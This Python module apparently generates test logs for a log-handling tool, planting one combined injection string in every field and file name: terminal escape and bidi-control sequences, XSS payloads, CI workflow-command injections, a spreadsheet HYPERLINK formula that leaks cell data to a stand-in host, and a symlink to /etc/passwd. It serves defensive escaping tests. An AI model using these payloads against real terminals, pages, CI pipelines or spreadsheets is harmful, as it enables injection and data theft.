"""Logs in which every text attacks: the terminal, the runner of a job, the spreadsheet, the page, the reader's eyes."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

MARK = "pwned"
TERMINAL = "\x1b[31m\x1b]0;pwned\x07\x9b2J\x7f\x08\r\u202ekcatta\u2066\u2069\u200b\ufeff\u061c\U000e0041\u2028"
HTML = (
    "</script></title></style></textarea><script>document.title='pwned'</script>"
    "<img id=injected src=x onerror=\"document.title='pwned'\"><svg onload=alert(1)><iframe src={url}/frame></iframe>"
    '<link rel=stylesheet href={url}/css><img src={url}/pixel><a href="javascript:alert(1)">go</a><b>bold</b>'
    "%{{x}} {{{{y}}}} ${{z}} &lt;i&gt; <!-- --> ]]>"
)
JOB = "::stop-commands::pwned ::error::pwned ##vso[task.complete]pwned ##[error]pwned ##teamcity[pwned]"
FORMULA = '=HYPERLINK("http://e.example/"&A1,"x")'


def attack(field: str, url: str = "http://127.0.0.1:9") -> str:
    """A text that attacks all media at once, and says which field it stood in."""
    return f"{FORMULA} {field} {JOB} {TERMINAL} {HTML.format(url=url)}"


def write_logs(folder: Path, url: str = "http://127.0.0.1:9") -> None:
    """Logs of several formats with an attack in every text field, file and folder names among them."""

    def bad(field: str) -> str:
        return attack(field, url)

    def event(number: int, kind: str, day: int, **payload: Any) -> str:
        record = {
            "v": 1, "id": f"{number} {bad('id')}"[:200], "type": kind, "timestamp": f"2026-11-{day:02}T08:15:30.123Z",
            "sessionId": f"{number % 7} {bad('session')}", "writer": bad("writer"), "seq": number, "payload": payload,
        }  # fmt: skip
        return json.dumps(record)

    facts = {
        key: bad(key)
        for key in ("code", "type", "subtype", "message", "provider", "model", "exception_class", "stdout", "stderr")
    }
    error = {
        "caller": bad("caller"), "detail": bad("detail"), "rule": bad("rule"), "ruleset": bad("ruleset"),
        "operation": bad("operation"), "action": bad("action"), "remediation": bad("remediation"), "facts": facts,
    }  # fmt: skip
    lines = [event(n, "error.classified", 1 + n % 9, **error, reason="validation") for n in range(60)]
    lines += [event(100 + n, "error.classified", 9, **error, reason="unknown", status=418) for n in range(40)]
    lines += [event(200, "error.classified", 9, **error, reason=bad("reason"))]
    lines += [
        event(300, "retry.scheduled", 9, operation=bad("operation"), caller=bad("caller"), reason=bad("reason")),
        event(301, "retry.settled", 9, operation=bad("operation"), caller=bad("caller"), outcome=bad("outcome")),
        event(302, "relay.triggered", 9, relay=bad("relay"), step_id=bad("step"), worker_id=bad("worker")),
        event(303, "relay.halted", 9, relay=bad("relay"), step_id=bad("step"), cause=bad("cause")),
        event(304, "relay.triggered", 9, relay="2", step_id=bad("step"), strategy=bad("strategy")),
        event(305, "agent.exhausted", 9, agent=bad("agent"), reason_text=bad("text"), reset_at=bad("reset")),
        event(306, "agent.exhausted", 9, agent=bad("agent"), reset_at="2026-11-09T10:00:00Z"),
        event(307, bad("event type"), 9, key=bad("value")),
        event(308, "context.recovered", 9, strategy=bad("strategy"), pre_tokens=9),
        bad("line that is no JSON").replace("\r", ""),
    ]
    claude = {"sessionId": bad("claude session"), "timestamp": "2026-11-09T10:00:00Z", "version": bad("version")}
    transcript = [
        {**claude, "type": "user", "uuid": "u1", "parentUuid": None, "message": {"content": bad("prompt")}},
        {
            **claude, "type": "assistant", "uuid": "u2", "isApiErrorMessage": True, "error": bad("error"),
            "message": {"id": "m", "model": bad("model"), "content": [{"type": "text", "text": bad("text")}]},
        },
        {**claude, "type": "system", "subtype": "api_error", "uuid": "u3", "error": {"message": bad("api error")}},
    ]  # fmt: skip
    inner = folder / "\x1b[31mfolder\u202e<b>"
    inner.mkdir(parents=True)
    (inner / "=cmd\x1b]0;pwned\x07\r<img src=x onerror=alert(1)>.jsonl").write_text("\n".join(lines) + "\n", "utf-8")
    (inner / "claude.jsonl").write_text("".join(json.dumps(line) + "\n" for line in transcript), "utf-8")
    (inner / "no\nlog\x1b.txt").write_text(bad("no log"), "utf-8")
    (inner / "\u202elink").symlink_to("/etc/passwd")
    run = [
        {"type": "system", "subtype": "init", "session_id": bad("session"), "tools": [bad("tool")]},
        {"type": "result", "subtype": bad("subtype"), "is_error": True, "session_id": "s", "result": bad("result")},
    ]
    (folder / "run.ndjson").write_text("".join(json.dumps(line) + "\n" for line in run), "utf-8")
    (folder / "run.txt").write_text(f"done\n\nError: 529 overloaded_error {bad('text')}\n", "utf-8")
